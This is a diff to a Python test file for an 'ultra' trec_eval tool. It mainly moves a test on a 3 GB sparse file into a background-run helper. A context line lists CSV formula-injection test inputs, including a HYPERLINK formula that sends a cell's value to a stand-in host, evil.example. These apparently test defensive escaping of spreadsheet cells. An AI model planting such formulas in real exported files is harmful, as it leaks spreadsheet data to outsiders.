@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import ROOT, run_ultra
+from tests.support.background import Command, Finished, Prepare, in_background
 from ultra_kit.files import CSV_FORMULA_STARTS, csv_cell, csv_text
 
 QUESTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
@@ -56,18 +57,31 @@ def test_trec_eval_parses_minus_n_as_trec_eval_does() -> None:
     assert done.stderr.startswith("error: -N 1000: the number of documents in the collection is not supported")
 
 
-@pytest.mark.parametrize("head", [0, 100])
-@pytest.mark.parametrize("which", ["qrels", "run"])
-def test_trec_eval_on_a_3_gb_file_without_line_ends(tmp_path: Path, head: int, which: str) -> None:
+def big_trec_eval(head: int, which: str) -> Prepare:
+    """``ultra trec_eval`` on a 3 GB run or qrels of zero bytes after ``head`` good lines, written under ``folder``
+    (sparse: no disk is used): a spare background run (tests/support/background.py)."""
+
+    def prepare(folder: Path) -> Command:
+        big = folder / "big.trec"
+        good = (ROOT / "data/trec" / ("qrels.test" if which == "qrels" else "results.test")).read_text().splitlines()
+        big.write_text("".join(line + "\n" for line in good[:head]))
+        with big.open("r+b") as handle:
+            handle.truncate(3 * 1024**3)
+        files = [str(big), str(ROOT / "data/trec/results.test")] if which == "qrels" else [
+            str(ROOT / "data/trec/qrels.test"), str(big)]  # fmt: skip
+        return Command(("trec_eval", *files), timeout=120, cwd=folder)
+
+    return prepare
+
+
+BIG = [pytest.param(which, head, marks=in_background(big_trec_eval(head, which), spare=True), id=f"{which}-{head}")
+       for which in ("qrels", "run") for head in (0, 100)]  # fmt: skip
+
+
+@pytest.mark.parametrize(("which", "head"), BIG)
+def test_trec_eval_on_a_3_gb_file_without_line_ends(background_run: Finished, head: int, which: str) -> None:
     """A 3 GB run or qrels of zero bytes (after ``head`` good lines, or none) was one line read whole, to a
     MemoryError traceback; now its first over-long line is named. The file is sparse: no disk is used."""
-    big = tmp_path / "big.trec"
-    good = (ROOT / "data/trec" / ("qrels.test" if which == "qrels" else "results.test")).read_text().splitlines()
-    big.write_text("".join(line + "\n" for line in good[:head]))
-    with big.open("r+b") as handle:
-        handle.truncate(3 * 1024**3)
-    files = [str(big), str(ROOT / "data/trec/results.test")] if which == "qrels" else [
-        str(ROOT / "data/trec/qrels.test"), str(big)]  # fmt: skip
-    done = run_ultra("trec_eval", *files, cwd=tmp_path, timeout=120)
+    big, done = background_run.folder / "big.trec", background_run.done
     assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
     assert done.stderr.startswith(f"error: {big}:{head + 1}: a line longer than 1,048,576 bytes: not a {which} file")
